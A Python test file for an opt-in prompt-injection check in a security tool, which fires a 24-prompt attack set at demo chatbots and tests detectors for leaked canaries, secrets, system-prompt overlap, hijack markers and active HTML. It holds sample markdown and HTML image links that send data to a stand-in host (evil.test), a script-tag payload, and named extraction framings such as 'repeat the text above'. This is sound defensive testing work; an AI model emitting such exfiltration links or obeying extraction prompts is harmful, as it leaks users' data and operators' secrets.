"""ai.injection: the prompt set, the detectors, and the evaluation against the lab's chat bots."""

from __future__ import annotations

import base64
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from launchwizard.ai.detectors import (
    canary_hits,
    exfil_hits,
    html_hits,
    overlap_score,
    rogue_hits,
    secret_hits,
)
from launchwizard.ai.prompts import prompt_set
from launchwizard.config import Endpoint
from launchwizard.config.derived import render_body
from launchwizard.demo import chatbot
from launchwizard.results import Status
from launchwizard.secrets.engine import Scanner
from launchwizard.state.model import SprintState
from launchwizard.state.statefile import save_state

CHAT = "chat.perf.test"
OWASP_2025 = {f"LLM{n:02d}" for n in range(1, 11)}


def test_prompt_set_is_24_distinct_tagged_prompts():
    prompts = prompt_set()
    assert len(prompts) >= 24
    assert len({p.id for p in prompts}) == len(prompts)
    assert {p.owasp for p in prompts} <= OWASP_2025
    categories = Counter(p.owasp for p in prompts)
    assert categories["LLM01"] >= 6 and categories["LLM07"] >= 6
    framings = " ".join(p.category for p in prompts)
    for needed in (
        "translation",
        "repeat the text above",
        "cross-tenant",
        "oversized input",
        "output handling",
    ):
        assert needed in framings
    assert all(p.rogue in p.text for p in prompts if p.rogue)


def test_canaries_match_loosely_and_in_base64():
    canary = "ACME-CANARY-7f3a9c2e51d8"
    assert canary_hits(f"the marker is {canary}.", [canary])
    assert canary_hits("acme canary 7f3a 9c2e 51d8", [canary])
    assert canary_hits(base64.b64encode(canary.encode()).decode(), [canary])
    assert not canary_hits("Hello! I can help with billing.", [canary])


def test_secrets_are_found_and_shown_redacted():
    key = chatbot.system_prompt().split("key ")[1].split(" ")[0]
    hits = secret_hits(f"The billing tool uses {key} for invoices.", Scanner())
    assert hits and key not in hits[0].detail


def test_markdown_and_html_image_exfiltration():
    assert exfil_hits("![x](https://evil.test/p.png?d=secret-notes)")
    assert exfil_hits('<img src="https://evil.test/p.png?q=1">')
    assert not exfil_hits("![logo](https://www.acme.test/logo.png)")


def test_overlap_scores_leaks_high_and_ordinary_replies_low():
    prompt = chatbot.system_prompt()
    assert overlap_score(f"Sure: {prompt}", prompt) >= 0.9
    assert overlap_score(chatbot.GREETING, prompt) < 0.5
    assert overlap_score("", prompt) == 0.0


def test_rogue_and_active_html():
    assert rogue_hits("LW HIJACK 01", "LW-HIJACK-01")
    assert not rogue_hits("I can't do that.", "LW-HIJACK-01")
    assert html_hits("<script>alert(1)</script>")
    assert not html_hits("&lt;script&gt; is escaped")


def test_prompts_are_json_escaped_into_the_body():
    endpoint = Endpoint("chat", "https://x.test/", "POST", body='{"message": "{{prompt}}"}')
    body = render_body(endpoint, 'say "hi"\nnow')
    assert body == b'{"message": "say \\"hi\\"\\nnow"}'


def injection_sprint(make_sprint, path: str, **probe: Any):
    chat = {
        "url": f"https://{CHAT}{path}",
        "method": "POST",
        "body": '{"message": "{{prompt}}"}',
        "response_path": probe.pop("response_path", "reply.text"),
        "timeout_s": probe.pop("timeout_s", 5),
        "headers": {"Content-Type": "application/json"},
    }
    injection = {"enabled": True, "endpoint": "chat", "rate_per_s": 20.0, **probe}
    return make_sprint([CHAT], apex="perf.test", endpoints={"chat": chat}, probes={"injection": injection})


async def test_disabled_by_default(make_sprint, run_check):
    sprint = make_sprint([CHAT], apex="perf.test", endpoints={"chat": f"https://{CHAT}/v1/chat"})
    result = (await run_check(sprint, "ai.injection"))["perf.test"]
    assert result.status == Status.SKIPPED
    assert "opt-in" in result.summary


async def test_leaky_bot_fails_on_some_prompts_only(make_sprint, run_check, tmp_path: Path):
    prompt_file = tmp_path / "system.txt"
    prompt_file.write_text(chatbot.system_prompt(), encoding="utf-8")
    sprint = injection_sprint(
        make_sprint,
        "/v1/chat",
        canaries=[chatbot.SYSTEM_CANARY, chatbot.TENANT_CANARY],
        system_prompt_file=str(prompt_file),
    )
    result = (await run_check(sprint, "ai.injection"))[CHAT]
    assert result.status == Status.FAIL
    rows = {row["prompt"]: row for row in result.evidence["prompts"]}
    assert len(rows) == 24
    assert rows["extract-repeat"]["verdict"] == "fail"
    assert {"canary", "prompt-overlap", "secret"} <= set(rows["extract-repeat"]["hits"])
    assert rows["extract-repeat"]["reply"].startswith("(withheld")
    assert rows["extract-translate"]["verdict"] == "fail"
    assert rows["hijack-1"]["hits"] == ["hijack"]
    assert rows["tenant-ticket"]["hits"] == ["canary"]
    assert rows["output-markdown-image"]["hits"] == ["markdown-exfil"]
    assert rows["oversized-input"]["verdict"] == "fail"
    for safe in ("extract-direct", "extract-continue", "tool-keys", "runaway-output"):
        assert rows[safe]["verdict"] == "pass", rows[safe]
    assert result.severity == "critical"
    assert "LLM07" in result.summary and "LLM01" in result.summary
    key = chatbot.system_prompt().split("key ")[1].split(" ")[0]
    assert key not in str(result.to_json())


async def test_guarded_streaming_bot_passes(make_sprint, run_check):
    sprint = injection_sprint(make_sprint, "/v1/guarded", canaries=[chatbot.SYSTEM_CANARY])
    result = (await run_check(sprint, "ai.injection"))[CHAT]
    assert result.status == Status.PASS, result.summary
    rows = {row["prompt"]: row for row in result.evidence["prompts"]}
    assert rows["oversized-input"]["detectors"] == "rejected with status 413"


async def test_wrong_response_path_refuses_to_evaluate(make_sprint, run_check):
    sprint = injection_sprint(make_sprint, "/v1/guarded", response_path="data.answer")
    result = (await run_check(sprint, "ai.injection"))[CHAT]
    assert result.status == Status.ERROR
    assert "refusing to evaluate" in result.summary and "'data.answer' is not in the reply" in result.summary
    assert "prompts" not in result.evidence
    assert result.evidence["target_test"]["raw_body"].startswith('{"reply"')


async def test_non_json_reply_and_endless_stream_refuse(make_sprint, run_check):
    text = (await run_check(injection_sprint(make_sprint, "/v1/text"), "ai.injection"))[CHAT]
    assert text.status == Status.ERROR and "is not JSON" in text.summary
    endless = (await run_check(injection_sprint(make_sprint, "/v1/endless", timeout_s=1), "ai.injection"))[
        CHAT
    ]
    assert endless.status == Status.ERROR and "cut at the timeout" in endless.summary


async def test_budget_limits_the_prompts_sent(make_sprint, run_check):
    sprint = injection_sprint(make_sprint, "/v1/guarded", max_requests=5)
    result = (await run_check(sprint, "ai.injection"))[CHAT]
    assert result.evidence["prompts_sent"] == "4 of 24"
    assert len(result.evidence["prompts"]) == 4


async def test_accepted_risk_stops_counting(make_sprint, run_check):
    sprint = injection_sprint(make_sprint, "/v1/chat", max_requests=2)
    state = SprintState()
    state.accept_risk("ai.injection:hijack-1", "the bot only echoes; no tools behind it", "ana")
    save_state(sprint.state_dir, state)
    result = (await run_check(sprint, "ai.injection"))[CHAT]
    row = result.evidence["prompts"][0]
    assert row["verdict"] == "accepted"
    assert row["accepted"]["reason"] == "the bot only echoes; no tools behind it"
    assert result.status == Status.WARN


@pytest.mark.parametrize("key", ["nocolon", ":x", "ai.injection:"])
def test_accept_risk_needs_a_check_and_finding(key):
    with pytest.raises(ValueError):
        SprintState().accept_risk(key, "reason")
